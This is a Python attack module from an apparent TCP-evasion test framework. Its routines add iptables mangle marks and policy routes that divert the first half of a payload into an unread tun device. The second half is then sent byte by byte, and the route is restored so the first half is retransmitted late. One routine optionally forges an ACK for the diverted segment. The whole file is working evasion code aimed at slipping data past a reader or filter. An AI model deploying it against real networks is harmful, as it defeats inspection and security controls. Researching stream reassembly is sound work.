"""The second half of a value first: the first half takes another route, to nowhere, meanwhile.

A mark by the packet's length and a routing rule by that mark lead the first half to a tun device
that nobody reads. After some seconds a gap might be taken for a stream that went on unseen, and
what is behind it let out; then the route is mended, and TCP sends the first half.
With `acknowledged` the device's reader acknowledges the first byte of it, as if it had arrived. The
byte is lost to the receiver, and what is behind it only to one that reads no packets.
"""

from __future__ import annotations

import fcntl
import os
import socket
import struct
import time

from attacks.connection import drained, give_up, halves
from attacks.frames import ACK, Segment, ip4
from attacks.inner import run
from attacks.target import Impossible, Target, refused

TABLE, MARK = "99", "0x99"
TUNSETIFF, IFF_TUN, IFF_NO_PI = 0x400454CA, 1, 0x1000
LONG = 700  # bytes that tell the first half from the rest
PAUSE = 0.3  # seconds between the bytes of the second half


def main(target: Target) -> None:
    """Split, wait, mend, wait."""
    first, second = halves(target)
    first = b"." * LONG + b" " + first
    device = nowhere()
    run("ip", "link", "set", "tun9", "up")
    run("ip", "route", "replace", "default", "dev", "tun9", "table", TABLE)
    run("ip", "rule", "add", "fwmark", MARK, "lookup", TABLE)
    way_out = ("ip", "route", "replace", "default", "via", target.gateways[4])
    run(*way_out, "dev", target.device, "rto_min", "5s")  # sent again late, the window stays open
    rule = ["OUTPUT", "-p", "tcp", "--dport", str(target.port)]
    rule += ["-m", "length", "--length", f"{LONG}:900", "-j", "MARK", "--set-mark", MARK]
    made = target.tcp()
    try:
        made.sendall(b"hello\n")
        drained(made)
        run("iptables", "-w", "-t", "mangle", "-A", *rule)
        with refused():
            made.sendall(first)
            if target.args.get("acknowledged"):
                acknowledge(device)
            for place in range(len(second)):
                time.sleep(PAUSE)
                made.sendall(second[place : place + 1])
        run("iptables", "-w", "-t", "mangle", "-D", *rule)
        drained(made, 8)
    finally:
        give_up(made)
        run(*way_out, "dev", target.device)
        run("ip", "rule", "del", "fwmark", MARK, check=False)
        os.close(device)


def nowhere() -> int:
    """A tun device that lives as long as the file that is returned.

    Raises:
        Impossible: /dev/net/tun is not there.
    """
    try:
        device = os.open("/dev/net/tun", os.O_RDWR)
    except OSError as error:
        raise Impossible(f"/dev/net/tun: {error.strerror}") from error
    fcntl.ioctl(device, TUNSETIFF, struct.pack("16sH14x", b"tun9", IFF_TUN | IFF_NO_PI))
    return device


def acknowledge(device: int) -> None:
    """Read the segment that came there, and answer as its receiver would, one byte on."""
    while True:
        packet = os.read(device, 4096)
        if packet[0] >> 4 == 4 and packet[9] == socket.IPPROTO_TCP:  # noqa: PLR2004 - version
            break
    source, destination = (socket.inet_ntoa(packet[at : at + 4]) for at in (12, 16))
    segment = packet[(packet[0] & 0xF) * 4 :]
    source_port, port, seq, ack = struct.unpack_from("!HHII", segment)
    answer = Segment(source_port=port, port=source_port, seq=ack, ack=seq + 1, flags=ACK)
    packed = answer.packed(destination, source)
    os.write(device, ip4(destination, source, socket.IPPROTO_TCP, packed))
